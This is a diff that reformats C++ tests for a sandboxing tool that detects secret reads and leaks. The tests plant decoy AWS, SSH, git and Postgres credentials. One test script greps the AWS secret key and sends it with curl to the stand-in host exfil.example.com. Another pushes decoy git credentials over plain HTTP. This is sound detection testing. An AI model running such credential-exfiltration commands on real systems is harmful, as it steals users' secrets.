@@ -21,12 +21,17 @@ struct SecretWorld : World {
     SecretWorld() {
         REQUIRE(whatif::util::make_dirs(home + "/.aws", 0700).has_value());
         REQUIRE(whatif::util::make_dirs(home + "/.ssh", 0700).has_value());
-        std::ofstream(home + "/.aws/credentials") << "[default]\naws_access_key_id = " << kAwsKeyId
-                                                  << "\naws_secret_access_key = " << kAwsSecret << "\n";
-        std::ofstream(home + "/.ssh/id_ed25519") << "-----BEGIN OPENSSH PRIVATE KEY-----\n"
-                                                 << kSshKeyLine << "\n-----END OPENSSH PRIVATE KEY-----\n";
-        std::ofstream(home + "/.ssh/known_hosts") << "github.com ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl\n";
-        std::ofstream(home + "/.git-credentials") << "https://ana:" << kGitPassword << "@github.com\n";
+        std::ofstream(home + "/.aws/credentials")
+            << "[default]\naws_access_key_id = " << kAwsKeyId
+            << "\naws_secret_access_key = " << kAwsSecret << "\n";
+        std::ofstream(home + "/.ssh/id_ed25519")
+            << "-----BEGIN OPENSSH PRIVATE KEY-----\n"
+            << kSshKeyLine << "\n-----END OPENSSH PRIVATE KEY-----\n";
+        std::ofstream(home + "/.ssh/known_hosts")
+            << "github.com ssh-ed25519 "
+               "AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl\n";
+        std::ofstream(home + "/.git-credentials")
+            << "https://ana:" << kGitPassword << "@github.com\n";
         std::ofstream(home + "/.pgpass") << "db.internal:5432:prod:admin:" << kPgPassword << "\n";
         chmod((home + "/.pgpass").c_str(), 0600);
     }
@@ -35,10 +40,15 @@ struct SecretWorld : World {
     json run(const std::string& script, ProcessResult* raw_out = nullptr) {
         ProcessOptions o;
         o.cwd = host;
-        o.env = {{"WHATIF_HOME", store}, {"HOME", home}, {"NO_COLOR", "1"}, {"GITHUB_TOKEN", kGithubToken},
+        o.env = {{"WHATIF_HOME", store},
+                 {"HOME", home},
+                 {"NO_COLOR", "1"},
+                 {"GITHUB_TOKEN", kGithubToken},
                  {"AWS_SECRET_ACCESS_KEY", kAwsSecret}};
         const std::string report = root + "/report.json";
-        auto raw = run_process(whatif_binary(), {"run", "-n", "--timeout", "30s", "--report", report, "--", "sh", "-c", script}, o);
+        auto raw = run_process(
+            whatif_binary(),
+            {"run", "-n", "--timeout", "30s", "--report", report, "--", "sh", "-c", script}, o);
         if (raw_out != nullptr) *raw_out = raw;
         INFO("stderr: " << raw.err);
         auto j = json::parse(read_text(report), nullptr, false);
@@ -51,7 +61,8 @@ struct SecretWorld : World {
         for (const auto& [path, entry] : snapshot_tree(store)) {
             if (entry.type != 'f') continue;
             const std::string content = read_text(store + "/" + path);
-            for (const auto& secret : {kAwsKeyId, kAwsSecret, kGithubToken, kSshKeyLine, kGitPassword, kPgPassword}) {
+            for (const auto& secret :
+                 {kAwsKeyId, kAwsSecret, kGithubToken, kSshKeyLine, kGitPassword, kPgPassword}) {
                 INFO("stored file " << path);
                 CHECK(content.find(secret) == std::string::npos);
             }
@@ -68,7 +79,9 @@ std::vector<json> secrets_of(const json& set, const std::string& kind) {
 
 }  // namespace
 
-TEST_CASE("a script that reads ~/.aws/credentials and sends it with curl: a leak to that host, naming the secret") {
+TEST_CASE(
+    "a script that reads ~/.aws/credentials and sends it with curl: a leak to that host, naming "
+    "the secret") {
     SecretWorld w;
     const auto set = w.run(
         "secret=$(grep aws_secret_access_key ~/.aws/credentials | cut -d' ' -f3); "
@@ -77,7 +90,8 @@ TEST_CASE("a script that reads ~/.aws/credentials and sends it with curl: a leak
     REQUIRE_FALSE(leaks.empty());
     bool named = false;
     for (const auto& l : leaks)
-        if (l["path"] == w.home + "/.aws/credentials" && l["destination"] == "exfil.example.com:80" && l["access"] == "sent")
+        if (l["path"] == w.home + "/.aws/credentials" &&
+            l["destination"] == "exfil.example.com:80" && l["access"] == "sent")
             named = true;
     CHECK(named);
     bool read = false;
@@ -114,13 +128,17 @@ TEST_CASE("cat ~/.ssh/id_ed25519 gets a decoy and the read is recorded; known_ho
     w.check_store_has_no_real_secret();
 }
 
-TEST_CASE("git push with a credential helper: over HTTPS the destination, over HTTP the credential leak") {
+TEST_CASE(
+    "git push with a credential helper: over HTTPS the destination, over HTTP the credential "
+    "leak") {
     SecretWorld w;
     const std::string repo =
-        "git init -q -b main r && cd r && git -c user.name=t -c user.email=t@example.com commit -q --allow-empty -m x && ";
+        "git init -q -b main r && cd r && git -c user.name=t -c user.email=t@example.com commit -q "
+        "--allow-empty -m x && ";
     // HTTPS: the handshake fails before git would ask its helper; the attempt is recorded.
-    auto set = w.run(repo + "git remote add origin https://github.com/o/r.git && "
-                            "GIT_TERMINAL_PROMPT=0 git -c credential.helper=store push -q origin main");
+    auto set = w.run(repo +
+                     "git remote add origin https://github.com/o/r.git && "
+                     "GIT_TERMINAL_PROMPT=0 git -c credential.helper=store push -q origin main");
     bool tls_to_github = false;
     for (const auto& n : set["network"])
         if (n["tls"].is_object() && n["tls"]["sni"] == "github.com") tls_to_github = true;
@@ -128,13 +146,17 @@ TEST_CASE("git push with a credential helper: over HTTPS the destination, over H
     w.check_store_has_no_real_secret();
     // HTTP: challenged, git reads ~/.git-credentials and sends the (decoy) credential.
     SecretWorld plain;
-    std::ofstream(plain.home + "/.git-credentials") << "http://ana:" << kGitPassword << "@git.example.com\n";
-    set = plain.run(repo + "git remote add origin http://git.example.com/o/r.git && "
-                           "GIT_TERMINAL_PROMPT=0 git -c credential.helper=store push -q origin main");
+    std::ofstream(plain.home + "/.git-credentials")
+        << "http://ana:" << kGitPassword << "@git.example.com\n";
+    set = plain.run(repo +
+                    "git remote add origin http://git.example.com/o/r.git && "
+                    "GIT_TERMINAL_PROMPT=0 git -c credential.helper=store push -q origin main");
     bool read = false, leak = false;
-    for (const auto& f : secrets_of(set, "file")) read |= f["path"] == plain.home + "/.git-credentials";
+    for (const auto& f : secrets_of(set, "file"))
+        read |= f["path"] == plain.home + "/.git-credentials";
     for (const auto& l : secrets_of(set, "leak"))
-        leak |= l["path"] == plain.home + "/.git-credentials" && l["destination"] == "git.example.com:80";
+        leak |= l["path"] == plain.home + "/.git-credentials" &&
+                l["destination"] == "git.example.com:80";
     CHECK(read);
     CHECK(leak);
     plain.check_store_has_no_real_secret();
